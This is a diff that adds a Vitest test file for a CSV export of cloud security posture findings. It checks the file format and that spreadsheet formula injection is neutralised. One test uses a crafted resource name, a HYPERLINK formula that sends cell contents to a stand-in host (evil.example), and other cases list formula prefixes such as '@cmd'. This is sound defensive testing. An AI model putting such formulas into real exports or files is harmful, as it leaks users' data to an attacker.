@@ -1,0 +1,84 @@
+import { describe, expect, it } from "vitest";
+import { evaluateSnapshot } from "../posture/evaluate";
+import { buildResult } from "../posture/result";
+import { account, snapshot, SUB } from "../posture/testing/fixtures";
+import { csvCell, findingsToCsv } from "./csv";
+
+const scan = { id: "s", startedAt: "2026-11-28T10:00:00Z", finishedAt: "2026-11-28T10:00:01Z", source: "snapshot" as const, tenantId: null };
+
+function csvFor(name: string) {
+  const snap = snapshot({ resources: [account({}, { name })] });
+  return findingsToCsv(buildResult({ snapshot: snap, evaluation: evaluateSnapshot(snap), scan, now: new Date("2026-11-28T10:00:01Z") }));
+}
+
+/** A minimal RFC 4180 reader, to check what a spreadsheet would see. */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let cell = "";
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const c = text[i];
+    if (quoted) {
+      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
+      else if (c === '"') quoted = false;
+      else cell += c;
+    } else if (c === '"') quoted = true;
+    else if (c === ",") row.push(cell), (cell = "");
+    else if (c === "\r" && text[i + 1] === "\n") row.push(cell), rows.push(row), (row = []), (cell = ""), i++;
+    else cell += c;
+  }
+  return rows;
+}
+
+describe("findingsToCsv", () => {
+  it("starts with a UTF-8 BOM and the header, ends rows with CRLF", () => {
+    const csv = csvFor("speech-prod-01");
+    expect(csv.startsWith("\uFEFFsubscriptionId,subscriptionName,resourceId,resourceName,kind,controlId,title,severity,status,reason,muted,message,evidence\r\n")).toBe(true);
+    expect(csv.endsWith("\r\n")).toBe(true);
+    const rows = parseCsv(csv.slice(1));
+    expect(rows).toHaveLength(1 + 18);
+    expect(rows.every((r) => r.length === 13)).toBe(true);
+    const iam1 = rows.find((r) => r[5] === "IAM-1")!;
+    expect(iam1).toEqual([
+      SUB,
+      "Subscription 0000",
+      expect.stringContaining("/accounts/speech-prod-01"),
+      "speech-prod-01",
+      "SpeechServices",
+      "IAM-1",
+      "Key (local) authentication is disabled",
+      "medium",
+      "fail",
+      "",
+      "false",
+      "speech-prod-01 still accepts API keys (disableLocalAuth is not true).",
+      expect.stringMatching(/^account:\/subscriptions\/.* properties\.disableLocalAuth=null$/),
+    ]);
+  });
+
+  it("neutralises a formula-crafted resource name wherever it starts a cell", () => {
+    const evil = '=HYPERLINK("http://evil.example/?"&A1,"click"),x';
+    const rows = parseCsv(csvFor(evil).slice(1));
+    const row = rows.find((r) => r[5] === "IAM-1")!;
+    expect(row[3]).toBe(`'${evil}`);
+    // Messages start with the resource name, so they are neutralised too.
+    expect(row[11]).toBe(`'${evil} still accepts API keys (disableLocalAuth is not true).`);
+    expect(rows.flat().every((cell) => !/^[=+\-@\t\r]/.test(cell))).toBe(true);
+  });
+
+  it.each([
+    ["=1+1", "'=1+1"],
+    ["+SUM(A1)", "'+SUM(A1)"],
+    ["-2", "'-2"],
+    ["@cmd", "'@cmd"],
+    ["\tx", "'\tx"],
+    ["\rx", '"\'\rx"'],
+    ['say "hi", then go', '"say ""hi"", then go"'],
+    ["two\nlines", '"two\nlines"'],
+    ["plain", "plain"],
+    ["", ""],
+  ])("csvCell(%j) = %j", (value, cell) => {
+    expect(csvCell(value)).toBe(cell);
+  });
+});
